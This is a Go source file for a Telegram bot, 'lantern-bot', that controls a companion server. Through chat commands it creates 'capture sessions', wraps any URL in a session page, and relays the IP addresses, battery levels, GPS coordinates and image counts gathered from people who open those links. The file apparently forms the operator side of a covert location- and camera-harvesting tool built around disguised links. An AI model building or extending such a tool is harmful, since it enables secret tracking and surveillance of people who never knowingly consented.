// ABOUTME: Telegram long-polling loop and command handlers for lantern-bot
// ABOUTME: Translates chat commands into lantern-server API calls

package main

import (
	"context"
	"fmt"
	"log/slog"
	"strconv"
	"strings"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"
)

const helpText = `lantern-bot commands:
/create [label]      Create a capture session
/wrap <url> [label]  Create a session wrapping a page
/status <token>      Show session activity`

// Bot polls Telegram for commands and drives the session server.
type Bot struct {
	cfg    *Config
	api    *tgbotapi.BotAPI
	client *apiClient
	logger *slog.Logger
}

func NewBot(cfg *Config, logger *slog.Logger) (*Bot, error) {
	api, err := tgbotapi.NewBotAPI(cfg.Telegram.BotToken)
	if err != nil {
		return nil, fmt.Errorf("connecting to telegram: %w", err)
	}

	logger.Info("authorized on telegram", "account", api.Self.UserName)

	return &Bot{
		cfg:    cfg,
		api:    api,
		client: newAPIClient(cfg.Server.URL),
		logger: logger,
	}, nil
}

// Run polls for updates until the context is canceled.
func (b *Bot) Run(ctx context.Context) error {
	updateCfg := tgbotapi.NewUpdate(0)
	updateCfg.Timeout = 30

	updates := b.api.GetUpdatesChan(updateCfg)

	for {
		select {
		case <-ctx.Done():
			b.logger.Info("shutting down bot")
			b.api.StopReceivingUpdates()
			return nil
		case update, ok := <-updates:
			if !ok {
				return nil
			}
			if update.Message == nil || !update.Message.IsCommand() {
				continue
			}
			b.handleCommand(ctx, update.Message)
		}
	}
}

func (b *Bot) handleCommand(ctx context.Context, msg *tgbotapi.Message) {
	chatID := msg.Chat.ID
	if !b.cfg.allowed(chatID) {
		b.logger.Warn("command from disallowed chat", "chat_id", chatID, "command", msg.Command())
		return
	}

	ctx, cancel := context.WithTimeout(ctx, requestTimeout)
	defer cancel()

	switch msg.Command() {
	case "start", "help":
		b.reply(chatID, "Bot ready.\n"+helpText)
	case "create":
		b.handleCreate(ctx, chatID, strings.TrimSpace(msg.CommandArguments()))
	case "wrap":
		b.handleWrap(ctx, chatID, strings.Fields(msg.CommandArguments()))
	case "status":
		b.handleStatus(ctx, chatID, strings.TrimSpace(msg.CommandArguments()))
	default:
		b.reply(chatID, "Unknown command.\n"+helpText)
	}
}

func (b *Bot) handleCreate(ctx context.Context, chatID int64, label string) {
	resp, err := b.client.CreateSession(ctx, label, strconv.FormatInt(chatID, 10))
	if err != nil {
		b.logger.Error("creating session", "error", err)
		b.reply(chatID, fmt.Sprintf("Failed to create session: %v", err))
		return
	}

	b.reply(chatID, fmt.Sprintf(
		"Session created.\nToken: %s\nOpen this link on the device: %s\nKeep permissions allowed while the page is open.",
		resp.Token, resp.Link))
}

func (b *Bot) handleWrap(ctx context.Context, chatID int64, args []string) {
	if len(args) == 0 {
		b.reply(chatID, "Usage: /wrap <url> [label]")
		return
	}
	targetURL := args[0]
	label := strings.Join(args[1:], " ")

	resp, err := b.client.CreateWrapped(ctx, targetURL, label, strconv.FormatInt(chatID, 10))
	if err != nil {
		b.logger.Error("creating wrap session", "error", err)
		b.reply(chatID, fmt.Sprintf("Failed to create wrap session: %v", err))
		return
	}

	b.reply(chatID, fmt.Sprintf("Wrap session created for %s\nOpen: %s", targetURL, resp.Link))
}

func (b *Bot) handleStatus(ctx context.Context, chatID int64, token string) {
	if token == "" {
		b.reply(chatID, "Usage: /status <token>")
		return
	}

	rec, err := b.client.SessionData(ctx, token)
	if err != nil {
		b.logger.Error("fetching status", "error", err, "token", token)
		b.reply(chatID, fmt.Sprintf("Failed to fetch status: %v", err))
		return
	}

	var sb strings.Builder
	fmt.Fprintf(&sb, "Session %s\n", rec.Token)
	if rec.Label != "" {
		fmt.Fprintf(&sb, "Label: %s\n", rec.Label)
	}
	fmt.Fprintf(&sb, "Created: %s\n", rec.CreatedAt.Format("2006-01-02 15:04:05 MST"))
	if rec.Wrap {
		fmt.Fprintf(&sb, "Wraps: %s\n", rec.TargetURL)
	}
	fmt.Fprintf(&sb, "Events: %d\nImages: %d", len(rec.Visits), len(rec.Files))
	b.reply(chatID, sb.String())

	// Show the most recent activity, oldest first.
	visits := rec.Visits
	if len(visits) > 5 {
		visits = visits[len(visits)-5:]
	}
	for _, v := range visits {
		battery := "n/a"
		if v.Battery != nil {
			battery = fmt.Sprintf("%.0f%%", *v.Battery*100)
		}
		coords := "n/a"
		if v.Coords != nil {
			coords = fmt.Sprintf("%.6f, %.6f", v.Coords.Lat, v.Coords.Lon)
		}
		b.reply(chatID, fmt.Sprintf("%s\nIP: %s\nBattery: %s\nCoords: %s",
			v.Timestamp.Format("2006-01-02 15:04:05 MST"), v.IP, battery, coords))
	}
}

func (b *Bot) reply(chatID int64, text string) {
	if _, err := b.api.Send(tgbotapi.NewMessage(chatID, text)); err != nil {
		b.logger.Error("sending reply", "error", err, "chat_id", chatID)
	}
}
